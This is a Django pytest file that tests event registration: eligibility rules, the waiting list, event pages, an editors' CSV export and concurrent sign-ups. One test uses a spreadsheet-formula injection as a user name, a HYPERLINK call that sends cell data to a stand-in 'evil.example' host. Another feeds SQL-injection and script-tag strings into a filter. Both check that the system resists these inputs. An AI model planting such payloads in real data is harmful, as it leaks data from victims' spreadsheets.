"""Registering for events: the rules, the waiting list, the pages, the admin export and
concurrency (on PostgreSQL)."""

import csv
import datetime
import io
import re

from django.contrib.auth.models import AnonymousUser
from django.contrib.messages import get_messages
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation

import pytest

from cms.roles import EDITORS, LEAD_EDITORS
from participation import rules, services
from participation.admin.registrations import registration_permission_policy
from participation.models import EventRegistration, Notification, NotificationReason
from tests.cms.factories import UserFactory
from tests.home.factories import EventIndexPageFactory
from tests.home.test_events import a_while_ago, event_at, next_summer
from tests.participation.factories import notified
from tests.participation.test_supports import run_in_parallel

CONFIRMED = EventRegistration.Status.CONFIRMED
WAITING = EventRegistration.Status.WAITING


@pytest.fixture
def index(site_homes):
    return EventIndexPageFactory(parent=site_homes[0])


@pytest.fixture
def index_en(index, site_homes):
    translation = index.copy_for_translation(site_homes[1].locale).specific
    translation.title = "Events"
    translation.save_revision().publish()
    return translation


@pytest.fixture
def event(index):
    return event_at(index, next_summer(), title="Zukunftswerkstatt", capacity=2)


@pytest.fixture
def resident(db):
    return UserFactory(display_name="Hanna")


def messages_of(response):
    return [str(message) for message in get_messages(response.wsgi_request)]


def post(client, url):
    """POST, follow the redirect and return the messages shown there (which uses them up)."""
    response = client.post(url, follow=True)
    return [str(message) for message in response.context["messages"]]


def statuses(event):
    registrations = EventRegistration.objects.filter(event=event).select_related("user")
    return {registration.user.display_name: registration.status for registration in registrations}


# --- The rules, as a matrix of person × event ----------------------------------------------------


def make_event(index, situation):
    now = timezone.now()
    if situation == "open":
        return event_at(index, next_summer())
    if situation == "past":
        return event_at(index, a_while_ago())
    if situation == "running":
        return event_at(index, now - datetime.timedelta(hours=1))
    if situation == "deadline_passed":
        return event_at(
            index, next_summer(), registration_deadline=now - datetime.timedelta(minutes=1)
        )
    if situation == "disabled":
        return event_at(index, next_summer(), registration_enabled=False)
    if situation == "full":
        event = event_at(index, next_summer(), capacity=1)
        services.register(UserFactory(), event)
        return event
    raise ValueError(situation)


def make_person(kind):
    if kind == "anonymous":
        return AnonymousUser()
    return UserFactory(verified=kind == "verified")


MATRIX = {
    # situation: (anonymous, unverified, verified)
    "open": (rules.SIGN_IN, rules.UNVERIFIED, CONFIRMED),
    "full": (rules.SIGN_IN, rules.UNVERIFIED, WAITING),
    "past": (rules.PAST, rules.PAST, rules.PAST),
    "running": (rules.CLOSED, rules.CLOSED, rules.CLOSED),
    "deadline_passed": (rules.CLOSED, rules.CLOSED, rules.CLOSED),
    "disabled": (rules.DISABLED, rules.DISABLED, rules.DISABLED),
}
CASES = [
    (situation, person, outcome)
    for situation, outcomes in MATRIX.items()
    for person, outcome in zip(["anonymous", "unverified", "verified"], outcomes, strict=True)
]


@pytest.mark.django_db
@pytest.mark.parametrize(("situation", "person", "outcome"), CASES)
def test_who_may_register_for_which_event(index, situation, person, outcome):
    event = make_event(index, situation)
    user = make_person(person)
    before = statuses(event)

    state = rules.registration_state(user, event)
    if outcome in (CONFIRMED, WAITING):
        assert state.enabled and state.may_register and state.obstacle is None
        assert state.is_full == (outcome == WAITING)
        assert services.register(user, event).status == outcome
    else:
        assert not state.may_register
        assert state.obstacle == outcome
        with pytest.raises(rules.ParticipationError) as error:
            services.register(user, event)
        assert error.value.code == outcome
        assert str(error.value.message)
        assert statuses(event) == before


@pytest.mark.django_db
def test_registering_twice_is_refused_and_changes_nothing(event, resident):
    services.register(resident, event)
    with pytest.raises(rules.ParticipationError) as error:
        services.register(resident, event)
    assert error.value.code == rules.ALREADY_REGISTERED
    assert EventRegistration.objects.filter(event=event).count() == 1


@pytest.mark.django_db
def test_cancelling_without_registration_is_refused(event, resident):
    other = UserFactory(display_name="Other")
    services.register(other, event)
    with pytest.raises(rules.ParticipationError) as error:
        services.cancel(resident, event)
    assert error.value.code == rules.NOT_REGISTERED
    assert statuses(event) == {"Other": CONFIRMED}


@pytest.mark.django_db
def test_cancelling_after_the_start_is_refused(index, resident):
    event = event_at(index, next_summer())
    services.register(resident, event)
    event.start = timezone.now() - datetime.timedelta(minutes=5)
    event.save()
    with pytest.raises(rules.ParticipationError) as error:
        services.cancel(resident, event)
    assert error.value.code == rules.STARTED
    assert statuses(event) == {"Hanna": CONFIRMED}


@pytest.mark.django_db
def test_an_event_without_limit_confirms_everybody(index):
    event = event_at(index, next_summer(), capacity=None)
    for _ in range(5):
        assert services.register(UserFactory(), event).status == CONFIRMED
    state = rules.registration_state(AnonymousUser(), event)
    assert state.free_places is None and not state.is_full


# --- The waiting list ---------------------------------------------------------------------------


def register_people(event, *names):
    return [services.register(UserFactory(display_name=name), event).user for name in names]


@pytest.mark.django_db
def test_full_event_puts_people_on_the_waiting_list_in_order(event):
    register_people(event, "A", "B", "C", "D")
    assert statuses(event) == {"A": CONFIRMED, "B": CONFIRMED, "C": WAITING, "D": WAITING}
    positions = dict(
        EventRegistration.objects.with_waiting_position().values_list(
            "user__display_name", "waiting_position"
        )
    )
    assert positions == {"A": None, "B": None, "C": 1, "D": 2}


@pytest.mark.django_db
def test_cancelling_a_place_moves_the_longest_waiting_person_up_and_tells_them(event):
    a, _, c, _ = register_people(event, "A", "B", "C", "D")
    c.email = "c@example.org"
    c.save()

    services.cancel(a, event)

    assert statuses(event) == {"B": CONFIRMED, "C": CONFIRMED, "D": WAITING}
    [(email, data)] = notified(NotificationReason.SEAT_FREED)
    assert email == "c@example.org"
    registration = EventRegistration.objects.get(user=c)
    assert (data["title"], data["registration"]) == (event.title, registration.pk)
    notification = Notification.objects.select_related("activity").get()
    assert notification.activity.target_id == event.pk
    assert notification.delivery == "immediately"


@pytest.mark.django_db
def test_leaving_the_waiting_list_moves_nobody_up(event):
    _, _, c, _ = register_people(event, "A", "B", "C", "D")
    services.cancel(c, event)
    assert statuses(event) == {"A": CONFIRMED, "B": CONFIRMED, "D": WAITING}
    assert notified(NotificationReason.SEAT_FREED) == []


@pytest.mark.django_db
def test_publishing_a_higher_capacity_moves_waiting_people_up(event):
    people = register_people(event, "A", "B", "C", "D", "E")
    event.capacity = 4
    event.save_revision().publish()

    assert statuses(event) == {
        "A": CONFIRMED,
        "B": CONFIRMED,
        "C": CONFIRMED,
        "D": CONFIRMED,
        "E": WAITING,
    }
    told = sorted(email for email, _data in notified(NotificationReason.SEAT_FREED))
    assert told == sorted([people[2].email, people[3].email])


@pytest.mark.django_db
def test_removing_the_limit_confirms_everybody_waiting(event, django_capture_on_commit_callbacks):
    register_people(event, "A", "B", "C", "D")
    event.capacity = None
    with django_capture_on_commit_callbacks(execute=True):
        event.save_revision().publish()
    assert set(statuses(event).values()) == {CONFIRMED}


@pytest.mark.django_db
def test_once_the_event_has_begun_nobody_moves_up(event):
    register_people(event, "A", "B", "C")
    event.start = timezone.now() - datetime.timedelta(minutes=1)
    event.capacity = 5
    event.save_revision().publish()
    assert statuses(event)["C"] == WAITING


@pytest.mark.django_db
def test_new_registrations_do_not_overtake_the_waiting_list(event):
    register_people(event, "A", "B", "C")
    type(event).objects.filter(pk=event.pk).update(capacity=3)  # changed without publishing
    register_people(event, "D")
    assert statuses(event) == {"A": CONFIRMED, "B": CONFIRMED, "C": CONFIRMED, "D": WAITING}


@pytest.mark.django_db
def test_language_versions_of_an_event_share_places_and_waiting_list(client, event, index_en):
    translation = event.copy_for_translation(index_en.locale).specific
    translation.title = "Future workshop"
    translation.save_revision().publish()
    de_first = UserFactory(display_name="De")
    services.register(de_first, event)
    services.register(UserFactory(display_name="En"), translation)
    waiting = UserFactory(display_name="Waiting", email="waiting@example.org")

    assert services.register(waiting, translation).status == WAITING
    services.register(UserFactory(display_name="Last"), event)
    positions = dict(
        EventRegistration.objects.waiting()
        .with_waiting_position()
        .values_list("user__display_name", "waiting_position")
    )
    assert positions == {"Waiting": 1, "Last": 2}
    with pytest.raises(rules.ParticipationError) as error:
        services.register(de_first, translation)
    assert error.value.code == rules.ALREADY_REGISTERED
    assert rules.registration_state(AnonymousUser(), translation).free_places == 0
    assert rules.registration_state(AnonymousUser(), event).free_places == 0

    services.cancel(de_first, translation)

    assert EventRegistration.objects.get(user=waiting).status == CONFIRMED
    # The notification points at the language version the person registered on.
    [(email, data)] = notified(NotificationReason.SEAT_FREED)
    assert (email, data["title"]) == ("waiting@example.org", "Future workshop")
    assert Notification.objects.get().activity.target_id == translation.pk
    client.force_login(UserFactory(group=EDITORS))
    response = client.get(
        reverse("event_registrations:index"), {"event": event.pk, "export": "csv"}
    )
    assert sorted(row[2] for row in export_rows(response)[1:]) == ["En", "Last", "Waiting"]


# --- The pages ----------------------------------------------------------------------------------


@pytest.mark.django_db
def test_anonymous_people_are_asked_to_sign_in(client, event):
    response = client.get(event.url)
    html = response.content.decode()
    state = response.context["registration"]
    assert state.needs_sign_in and not state.may_register and state.free_places == 2
    assert f'href="{reverse("account_login")}?next={event.url.replace("/", "%2F")}"' in html
    assert f'action="{event.url}anmelden/"' not in html
    assert "public" in response["Cache-Control"]

    response = client.post(event.url + "anmelden/")
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_login") + "?next=")
    assert not EventRegistration.objects.exists()


@pytest.mark.django_db
def test_reserving_accepts_post_only(client, event, resident):
    client.force_login(resident)
    assert client.get(event.url + "anmelden/").status_code == 405
    assert not EventRegistration.objects.exists()


@pytest.mark.django_db
def test_registration_needs_the_csrf_token(event, resident):
    client = Client(enforce_csrf_checks=True)
    client.force_login(resident)
    assert client.post(event.url + "anmelden/").status_code == 403
    assert not EventRegistration.objects.exists()


@pytest.mark.django_db
def test_resident_registers_and_the_page_shows_it(client, index_en, resident):
    event = event_at(
        index_en, next_summer(), capacity=12, online_url="https://meet.example.org/werkstatt"
    )
    client.force_login(resident)
    html = client.get(event.url).content.decode()
    assert "12 places free" in html
    assert f'<form method="post" action="{event.url}register/">' in html
    assert "https://meet.example.org/werkstatt" not in html

    response = client.post(event.url + "register/")

    assert response.status_code == 302 and response["Location"] == event.url
    assert "private" in response["Cache-Control"]
    assert messages_of(response) == [f"You have reserved a place at “{event.title}”."]
    response = client.get(event.url)
    html = response.content.decode()
    assert "private" in response["Cache-Control"]
    assert "You have reserved a place at this event." in html
    assert "11 places free" in html
    assert 'href="https://meet.example.org/werkstatt"' in html
    assert f'href="{event.url}cancel/"' in html
    assert reverse("participation:my_registrations") in html


@pytest.mark.django_db
def test_waiting_person_sees_the_position_but_not_the_online_link(client, index_en):
    event = event_at(index_en, next_summer(), capacity=1, online_url="https://meet.example.org/x")
    register_people(event, "A", "B")
    waiting = UserFactory()
    client.force_login(waiting)
    html = client.get(event.url).content.decode()
    assert "Booked out – waiting list open (1 person waiting)" in html
    assert "Join the waiting list" in html

    response = client.post(event.url + "register/")
    assert "waiting list" in messages_of(response)[0]

    html = client.get(event.url).content.decode()
    assert "You are on the waiting list, position 2." in html
    assert "https://meet.example.org/x" not in html
    assert "Leave the waiting list" in html


@pytest.mark.django_db
def test_unverified_person_is_told_to_confirm_the_email_address(client, index_en):
    event = event_at(index_en, next_summer())
    client.force_login(UserFactory(verified=False))
    html = client.get(event.url).content.decode()
    assert "Please confirm your email address first" in html
    assert reverse("account_email") in html

    response = client.post(event.url + "register/")
    assert response["Location"] == event.url
    assert "Please confirm your email address first" in messages_of(response)[0]
    assert not EventRegistration.objects.exists()


@pytest.mark.django_db
def test_errors_come_back_as_messages_and_change_nothing(client, index_en, resident):
    event = event_at(index_en, next_summer())
    client.force_login(resident)
    assert post(client, event.url + "register/") == [
        f"You have reserved a place at “{event.title}”."
    ]

    assert post(client, event.url + "register/") == [
        "You have already reserved a place at this event."
    ]

    client.force_login(UserFactory())
    not_registered = ["You have no reservation for this event."]
    assert post(client, event.url + "cancel/") == not_registered
    cancel_url = reverse("participation:cancel_registration", args=[event.pk])
    assert post(client, cancel_url) == not_registered
    assert EventRegistration.objects.get(event=event).user == resident


@pytest.mark.django_db
def test_closed_event_page_says_why(client, index_en, resident):
    event = event_at(
        index_en,
        next_summer(),
        registration_deadline=timezone.now() - datetime.timedelta(hours=1),
    )
    client.force_login(resident)
    html = client.get(event.url).content.decode()
    assert "Reservations for this event have closed." in html
    assert 'register/"' not in html


@pytest.mark.django_db
def test_resident_cancels_on_the_event_page(client, event, resident):
    services.register(resident, event)
    client.force_login(resident)
    response = client.post(event.url + "abmelden/")
    assert response["Location"] == event.url
    assert not EventRegistration.objects.exists()


@pytest.mark.django_db
def test_my_registrations_lists_upcoming_events_and_cancels_from_there(client, index, resident):
    later = event_at(index, next_summer() + datetime.timedelta(days=3), title="Später")
    sooner = event_at(index, next_summer(), title="Früher", capacity=1)
    over = event_at(index, next_summer(), title="Vorbei")
    services.register(UserFactory(), sooner)
    for event in (later, sooner, over):
        services.register(resident, event)
    type(over).objects.filter(pk=over.pk).update(start=a_while_ago(), end=a_while_ago(29))
    client.force_login(resident)

    with translation.override("en"):
        url = reverse("participation:my_registrations")
        cancel_url = reverse("participation:cancel_registration", args=[later.pk])
    response = client.get(url)
    html = response.content.decode()

    assert response.status_code == 200
    assert "private" in response["Cache-Control"]
    assert html.index("Früher") < html.index("Später")
    assert "Vorbei" not in html
    assert "Waiting list, position 1" in html

    assert f'href="{cancel_url}"' in html
    response = client.post(cancel_url)
    assert response["Location"] == url
    assert not EventRegistration.objects.filter(event=later).exists()


@pytest.mark.django_db
def test_my_registrations_needs_sign_in(client, site_homes):
    url = reverse("participation:my_registrations")
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_login"))


# --- The editors' export ------------------------------------------------------------------------


def export_rows(response):
    # The CSV streams after the view has returned, in the language active then.
    with translation.override("en"):
        content = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(content)))


@pytest.mark.django_db
@pytest.mark.parametrize("group", [EDITORS, LEAD_EDITORS])
def test_editors_download_an_events_registrations_as_csv(client, index, event, group):
    register_people(event, "Anna", "Ben", "Cem")
    other = event_at(index, next_summer(), title="Andere Veranstaltung")
    register_people(other, "Dora")
    editor = UserFactory(group=group)
    client.force_login(editor)

    index_url = reverse("event_registrations:index")
    response = client.get(index_url, {"event": event.pk, "export": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert f'filename="registrations-{event.slug}-de.csv"' in response["Content-Disposition"]
    header, *rows = export_rows(response)
    assert header == [
        "Event",
        "Status",
        "Display name",
        "Without account",
        "Email",
        "Registered at",
        "Places",
        "For the action group",
        "Note",
    ]
    assert {row[2]: row[1] for row in rows} == {
        "Anna": "Confirmed",
        "Ben": "Confirmed",
        "Cem": "Waiting list",
    }
    assert all(row[0] == "Zukunftswerkstatt" for row in rows)
    assert all(row[3] == "" and row[4].endswith("@example.org") for row in rows)
    registered_at = timezone.localtime(EventRegistration.objects.earliest("created_at").created_at)
    assert rows[0][5] == registered_at.strftime("%Y-%m-%d %H:%M")

    listing = client.get(index_url, {"event": event.pk})
    assert listing.status_code == 200
    assert "Anna" in listing.content.decode() and "Dora" not in listing.content.decode()


@pytest.mark.django_db
def test_csv_export_defuses_spreadsheet_formulas(client, event):
    register_people(event, '=HYPERLINK("http://evil.example/?"&B2,"Klick")', "+49 Anna")
    client.force_login(UserFactory(group=EDITORS))
    response = client.get(
        reverse("event_registrations:index"), {"event": event.pk, "export": "csv"}
    )
    _header, *rows = export_rows(response)
    names = sorted(row[2] for row in rows)
    assert names == ["'+49 Anna", '\'=HYPERLINK("http://evil.example/?"&B2,"Klick")']


@pytest.mark.django_db
def test_residents_cannot_see_or_export_registrations(client, event, resident):
    services.register(resident, event)
    client.force_login(resident)
    response = client.get(
        reverse("event_registrations:index"), {"event": event.pk, "export": "csv"}
    )
    assert response.status_code in (302, 403)
    assert not response.get("Content-Type", "").startswith("text/csv")


@pytest.mark.django_db
def test_the_admin_shows_registrations_but_never_changes_them(event, admin_user):
    assert registration_permission_policy.user_has_permission(admin_user, "view")
    for action in ("add", "change", "delete"):
        assert not registration_permission_policy.user_has_permission(admin_user, action)


@pytest.mark.django_db
def test_event_pages_link_editors_to_their_registrations(client, index, event):
    editor = UserFactory(group=EDITORS)
    client.force_login(editor)
    link = f"{reverse('event_registrations:index')}?event={event.pk}"

    event_editor = client.get(reverse("wagtailadmin_pages:edit", args=[event.pk]))
    index_editor = client.get(reverse("wagtailadmin_pages:edit", args=[index.pk]))

    assert event_editor.status_code == 200
    assert link.replace("&", "&amp;") in event_editor.content.decode()
    assert f"?event={index.pk}" not in index_editor.content.decode()


# --- Concurrency --------------------------------------------------------------------------------


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_concurrent_registrations_never_exceed_the_capacity(site_homes):
    if connection.vendor != "postgresql":
        pytest.skip("SQLite serialises all writes; the row lock is tested on PostgreSQL.")
    index = EventIndexPageFactory(parent=site_homes[0])
    event = event_at(index, next_summer(), capacity=3)
    people = [UserFactory() for _ in range(12)]
    outcomes = run_in_parallel([lambda p=person: services.register(p, event) for person in people])
    assert outcomes == ["ok"] * len(people), outcomes
    registrations = EventRegistration.objects.filter(event=event)
    assert registrations.filter(status=CONFIRMED).count() == 3
    assert registrations.filter(status=WAITING).count() == 9


# --- Cancelling asks first ----------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("where", ["event page", "my reservations"])
def test_cancelling_asks_first_and_only_the_post_cancels(client, index_en, resident, where):
    event = event_at(index_en, next_summer(), title="Future workshop")
    services.register(resident, event)
    client.force_login(resident)
    with translation.override("en"):
        list_url = reverse("participation:my_registrations")
        url = (
            event.url + "cancel/"
            if where == "event page"
            else reverse("participation:cancel_registration", args=[event.pk])
        )
    back = event.url if where == "event page" else list_url

    question = client.get(url)

    html = question.content.decode()
    assert question.status_code == 200 and "private" in question["Cache-Control"]
    assert "<h1>Cancel your reservation?</h1>" in html
    assert "Future workshop" in html
    assert f'<time datetime="{next_summer().year}-07-01T14:00:00+02:00">' in html
    assert f'<form method="post" action="{url}"' in html
    assert f'<a href="{back}">No, keep it</a>' in html
    assert EventRegistration.objects.filter(user=resident).exists()

    response = client.post(url)
    assert response["Location"] == back
    assert messages_of(response) == ["Your reservation for “Future workshop” is cancelled."]
    assert not EventRegistration.objects.exists()


@pytest.mark.django_db
def test_the_cancel_question_needs_a_reservation_and_a_sign_in(client, event, resident):
    response = client.get(event.url + "abmelden/")
    assert response["Location"].startswith(reverse("account_login"))
    client.force_login(resident)
    response = client.get(event.url + "abmelden/")
    assert response["Location"] == event.url
    assert len(messages_of(response)) == 1


# --- Words: reserving a place, signing in -------------------------------------------------------


@pytest.mark.django_db
def test_reserving_is_never_called_signing_in(client, index_en, resident):
    event = event_at(index_en, next_summer(), guest_registration_enabled=True)
    anonymous = client.get(event.url).content.decode()
    assert "Please sign in to reserve a place at this event." in anonymous
    assert ">Sign in</a>" in anonymous
    assert "Reserve without an account" in anonymous

    client.force_login(resident)
    html = client.get(event.url).content.decode()
    assert '<h2 id="registration-heading">Reserve a place</h2>' in html
    assert '<button type="submit" class="button">Reserve a place</button>' in html
    client.post(event.url + "register/")
    html = client.get(event.url).content.decode()
    assert "You have reserved a place at this event." in html
    assert ">Cancel reservation</a>" in html and "All my reservations" in html
    for page in (html, anonymous):
        assert "register" not in re.sub(r'(href|action|id)="[^"]*"', "", page).lower()


@pytest.mark.django_db
@pytest.mark.parametrize("value", ["abc", "-1", "99999999", "1 OR 1=1", "<script>"])
@pytest.mark.parametrize("export", ["", "csv"])
def test_a_broken_event_filter_answers_without_an_error(client, event, value, export):
    """``?event=`` typed or altered by hand: the index and its download still answer (the
    filter is refused as invalid), never with a server error."""
    register_people(event, "Anna")
    client.force_login(UserFactory(group=EDITORS))
    params = {"event": value, **({"export": export} if export else {})}
    response = client.get(reverse("event_registrations:index"), params)
    assert response.status_code == 200
    if not export:
        assert "<script>" not in response.content.decode()
